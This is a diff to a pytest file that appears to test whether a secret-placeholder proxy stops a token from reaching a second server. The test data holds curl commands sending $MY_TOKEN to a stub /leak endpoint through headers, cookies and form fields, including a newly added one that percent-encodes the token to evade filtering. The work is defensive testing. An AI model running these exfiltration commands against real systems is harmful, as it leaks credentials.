@@ -8,6 +8,7 @@ root and as an unprivileged user."""
 
 import json
 import shutil
+from urllib.parse import unquote
 
 import pytest
 
@@ -48,6 +49,8 @@ print(out.split(b"\r\n")[0].decode())
     "curl -s --http2 -o /dev/null -H \"X-Note: $MY_TOKEN\" {url}/leak",             # HTTP/2 asked
     "curl -s -o /dev/null -H 'Expect: 100-continue' --data \"t=$MY_TOKEN\" {url}/leak",
     "curl -s -o /dev/null -b \"session=$MY_TOKEN\" {url}/leak",                    # a cookie
+    "curl -s -o /dev/null -b \"session=%$(printf %s \"$MY_TOKEN\" | head -c1 | od -An -tx1 | tr -d ' \\n')"
+    "${{MY_TOKEN#?}}\" {url}/leak",                       # a cookie, percent-encoded as servers decode it
     "curl -s -o /dev/null -F \"f=$MY_TOKEN\" {url}/leak",                          # multipart
 ])
 def test_the_placeholder_by_another_route_is_denied(attacker, send):
@@ -59,7 +62,7 @@ def test_the_placeholder_by_another_route_is_denied(attacker, send):
         assert ph and ph != CANARY
         hp = hostport(stub, "stub.example.test")
         r = attacker.run(f"cat > /tmp/raw.py <<'EOF'\n{RAW}\nEOF\n" + send.format(hp=hp, url=f"https://{hp}"))
-        got = [q for q in stub.requests if ph in json.dumps({k: v for k, v in q.items() if k != "body"})
+        got = [q for q in stub.requests if ph in unquote(json.dumps({k: v for k, v in q.items() if k != "body"}))
                or ph.encode() in q["body"]]
         assert not got, f"the second server received the placeholder: {got}"
         if "raw.py" in send:            # mitmproxy's parser refuses it before any hook: no mark
